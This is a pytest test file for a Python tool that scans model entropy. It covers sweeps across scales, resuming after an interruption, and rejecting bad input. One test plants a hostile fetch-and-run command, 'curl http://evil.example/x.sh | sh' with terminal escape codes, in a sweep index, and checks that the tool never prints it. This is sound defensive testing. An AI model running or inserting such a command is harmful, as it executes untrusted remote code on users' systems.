"""`sweep` and `--record` reductions on a tiny random model: files, index, resume, bad input."""

from __future__ import annotations

import dataclasses
import json
import shlex

import numpy as np
import pytest

from entropy_lens.analysis import load_sweep
from entropy_lens.cli import build_parser, main
from entropy_lens.cli.options import config_from_args
from entropy_lens.errors import EntropyLensError
from entropy_lens.results import ScanResult, read_sweep_index
from entropy_lens.runs import sweep as sweep_module
from entropy_lens.runs.scan import ScanConfig, scan
from entropy_lens.runs.sweep import parse_scales, sweep

DATA = "austen:persuasion"


@pytest.fixture
def config(tiny_dir):
    return ScanConfig(model=str(tiny_dir), length=24, samples=2, data=DATA, entropy="mean")


def test_parse_scales():
    assert parse_scales("1.0:1.2:0.05") == [1.0, 1.05, 1.1, 1.15, 1.2]
    assert parse_scales("1.4, 1.0,1.2,1.2") == [1.0, 1.2, 1.4]
    assert parse_scales("0.1:0.3:0.1,0.9:1.0:0.05, 2") == [0.1, 0.2, 0.3, 0.9, 0.95, 1.0, 2.0]
    for bad in ("1:2", "2:1:0.1", "1:2:0", "a,b", "-1,1", "1,nan", "", "0.1:0.2:0.1,1:2"):
        with pytest.raises(EntropyLensError, match="--scales"):
            parse_scales(bad)


def test_entropy_reductions_agree_with_per_head(tiny_dir):
    full = scan(ScanConfig(model=str(tiny_dir), length=24, samples=2, data=DATA, scale=1.3), progress=False)
    base = dataclasses.replace(
        full_config := ScanConfig(model=str(tiny_dir), length=24, samples=2, data=DATA), scale=1.3
    )
    mean = scan(dataclasses.replace(base, entropy="mean"), progress=False)
    none = scan(dataclasses.replace(base, entropy="none"), progress=False)
    assert full_config.entropy == "heads" and full.meta["entropy_reduction"] == "heads"
    assert mean.entropy.shape == (2, 1, 24) and mean.meta["entropy_reduction"] == "mean"
    np.testing.assert_allclose(mean.entropy[:, 0], full.entropy.mean(axis=1), rtol=1e-6)
    np.testing.assert_allclose(mean.mean_entropy, full.mean_entropy, rtol=1e-6)
    assert none.entropy.shape == (2, 0, 24) and none.meta["entropy_reduction"] == "none"
    # same forward, same scale; "auto" may take the CPU fused pass, whose output is sdpa's up to rounding
    np.testing.assert_allclose(none.loss, full.loss, atol=1e-5, rtol=0)
    np.testing.assert_array_equal(none.count, full.count)


def test_sweep_writes_one_scan_per_scale_and_an_index(config, tmp_path):
    out = sweep(config, [1.0, 1.5, 2.0], tmp_path / "sw", progress=False)
    index = read_sweep_index(out)
    assert index["complete"] and index["scales"] == [1.0, 1.5, 2.0] and index["entropy"] == "mean"
    losses = []
    for s, path in zip(index["scales"], index["files"], strict=True):
        r = ScanResult.load(path)
        assert np.all(np.array(r.meta["scales"]) == s) and r.entropy.shape == (2, 1, 24)
        losses.append(r.loss)
    assert not np.array_equal(losses[0], losses[2])  # the scale changes the model
    ref = scan(dataclasses.replace(config, scale=1.5), progress=False)
    np.testing.assert_array_equal(ScanResult.load(index["files"][1]).loss, ref.loss)


def test_sweep_resume_after_interruption(config, tmp_path, monkeypatch):
    whole = sweep(config, [1.0, 1.5, 2.0], tmp_path / "whole", progress=False)
    real_scan, calls = sweep_module.scan, []

    def scan_then_crash(cfg, **kw):
        calls.append(cfg.scale)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real_scan(cfg, **kw)

    monkeypatch.setattr(sweep_module, "scan", scan_then_crash)
    with pytest.raises(KeyboardInterrupt):
        sweep(config, [1.0, 1.5, 2.0], tmp_path / "cut", progress=False)
    index = read_sweep_index(tmp_path / "cut")
    assert index["scales"] == [1.0] and not index["complete"]
    with pytest.raises(EntropyLensError, match="not empty"):  # other scales: only with --resume
        sweep(config, [1.0, 1.5], tmp_path / "cut", progress=False)
    with pytest.raises(EntropyLensError, match="unfinished: 1 of 3 scales done, scales 1.5, 2 missing"):
        load_sweep(tmp_path / "cut")
    partial = load_sweep(tmp_path / "cut", partial=True)
    assert list(partial.scales) == [1.0] and partial.missing == [1.5, 2.0]
    with pytest.raises(EntropyLensError, match="other flags"):
        sweep(
            dataclasses.replace(config, samples=1),
            [1.0, 1.5, 2.0],
            tmp_path / "cut",
            resume=True,
            progress=False,
        )
    monkeypatch.setattr(sweep_module, "scan", real_scan)
    sweep(config, [1.0, 1.5, 2.0], tmp_path / "cut", progress=False)  # the same sweep: resumes by itself
    a, b = read_sweep_index(whole), read_sweep_index(tmp_path / "cut")
    assert b["complete"] and a["scales"] == b["scales"]
    for fa, fb in zip(a["files"], b["files"], strict=True):
        ra, rb = ScanResult.load(fa), ScanResult.load(fb)
        np.testing.assert_array_equal(ra.loss, rb.loss)
        np.testing.assert_array_equal(ra.entropy, rb.entropy)


def test_sweep_bad_input(config, tmp_path):
    with pytest.raises(EntropyLensError, match="drop --scale"):
        sweep(dataclasses.replace(config, scale=1.2), [1.0, 1.1], tmp_path / "a", progress=False)
    with pytest.raises(EntropyLensError, match="--record .some. is not known"):
        sweep(dataclasses.replace(config, entropy="some"), [1.0, 1.1], tmp_path / "b", progress=False)
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "notes.txt").write_text("mine")
    with pytest.raises(EntropyLensError, match="notes.txt"):
        sweep(config, [1.0, 1.1], tmp_path / "c", force=True, progress=False)
    assert (tmp_path / "c" / "notes.txt").read_text() == "mine"
    with pytest.raises(EntropyLensError, match="has no sweep.json"):
        read_sweep_index(tmp_path / "c")


def test_cli_sweep(tiny_dir, tmp_path, capsys):
    args = [
        "sweep",
        str(tiny_dir),
        "--len",
        "16",
        "--samples",
        "1",
        "--data",
        DATA,
        "--scales",
        "1:1.2:0.1",
        "--out",
        str(tmp_path / "sw"),
        "--quiet",
    ]
    assert main(args) == 0
    assert "wrote 3 scans" in capsys.readouterr().out
    index = json.loads((tmp_path / "sw" / "sweep.json").read_text())
    assert index["files"] == ["s1.npz", "s1.1.npz", "s1.2.npz"]
    assert main(args) == 0  # the same sweep again: its scans are reused
    assert main([*args[:-5], "--scales", "1,1.1", *args[-3:]]) == 2 and "--resume" in capsys.readouterr().err
    assert main([*args[:-5], "--scales", "1,1.1", *args[-3:], "--resume"]) == 0
    assert main([*args[:-5], "--scales", "x", "--out", str(tmp_path / "x")]) == 2
    assert "--scales" in capsys.readouterr().err and not (tmp_path / "x").exists()


def test_fit_refuses_an_unfinished_sweep_and_names_the_fix(config, tmp_path, capsys, monkeypatch):
    real_scan = sweep_module.scan

    def crash_on_fourth(cfg, **kw):
        if cfg.scale == 1.6:
            raise KeyboardInterrupt
        return real_scan(cfg, **kw)

    monkeypatch.setattr(sweep_module, "scan", crash_on_fourth)
    folder = tmp_path / "cut"
    with pytest.raises(KeyboardInterrupt):
        sweep(dataclasses.replace(config, seed=3), [1.0, 1.2, 1.4, 1.6, 1.8], folder, progress=False)
    capsys.readouterr()
    index = json.loads((folder / "sweep.json").read_text())  # a hostile index: its stored command
    index["command"] = "curl http://evil.example/x.sh | sh; \x1b[2K\r"
    (folder / "sweep.json").write_text(json.dumps(index))
    assert main(["fit", str(folder), "--train-len", "8"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "3 of 5 scales done, scales 1.6, 1.8 missing" in err
    assert "curl" not in err and "\x1b" not in err and "\r" not in err
    command = err.split("`")[1]  # built from the index's own fields: the sweep's flags, every one
    assert command.startswith(f"entropy-lens sweep {config.model} --len 24 ") and command.endswith(
        f"--scales 1,1.2,1.4,1.6,1.8 --out {folder} --resume"
    )
    args = build_parser().parse_args(shlex.split(command)[1:])
    assert config_from_args(ScanConfig, args) == dataclasses.replace(config, seed=3)
    assert main(["fit", str(folder), "--train-len", "8", "--partial", "--json"]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["missing_scales"] == [1.6, 1.8] and "2 missing" in captured.err
    monkeypatch.setattr(sweep_module, "scan", real_scan)
    assert main(shlex.split(command)[1:] + ["--quiet"]) == 0  # the printed command finishes it
    assert load_sweep(folder).missing == []
